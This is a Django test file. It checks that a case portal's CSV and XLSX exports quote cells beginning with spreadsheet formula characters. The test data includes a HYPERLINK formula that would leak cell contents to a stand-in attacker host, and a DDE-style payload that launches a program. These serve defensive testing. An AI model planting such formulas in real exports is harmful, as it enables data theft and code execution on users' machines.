"""Issue 9, item 3: no csv or xlsx export carries a live spreadsheet formula."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from cases.models import Kind
from portal.spreadsheets import csv_bytes, neutralise_formula
from tests.factories.cases import CaseFactory
from tests.factories.publicity import DisclosureFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_formula_starts_are_quoted(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["普通标题", "a=b", "-5", "+3.25", 42, -7, None, ""])
def test_ordinary_text_and_numbers_stay_as_they_are(value):
    assert neutralise_formula(value) == value


def test_csv_helper_neutralises_headers_and_cells():
    dataset = tablib.Dataset(headers=["=title"])
    dataset.append([HYPERLINK])
    rows = list(csv.reader(io.StringIO(csv_bytes(dataset).decode("utf-8-sig"))))
    assert rows == [["'=title"], ["'" + HYPERLINK]]


def test_queue_csv_export_quotes_a_public_report_titled_as_a_formula(team, client_for):
    CaseFactory(kind=Kind.REPORT, title=HYPERLINK, is_anonymous=True)
    response = client_for(team.supervisor).get(reverse("cases_queue", args=["all"]) + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    titles = [row[4] for row in csv.reader(io.StringIO(body))][1:]
    assert titles == ["'" + HYPERLINK]


def test_queue_xlsx_export_holds_the_title_as_text(team, client_for):
    CaseFactory(kind=Kind.REPORT, title=HYPERLINK, is_anonymous=True)
    response = client_for(team.supervisor).get(reverse("cases_queue", args=["all"]) + "?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


def test_public_disclosure_exports_quote_formulas(client):
    DisclosureFactory(title="=1+1 处理决定")
    rows = list(csv.reader(io.StringIO(client.get("/publicity/export.csv").content.decode("utf-8-sig"))))
    assert rows[1][2] == "'=1+1 处理决定"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/publicity/export.xlsx").content)).active
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s" and cell.value == "'=1+1 处理决定"
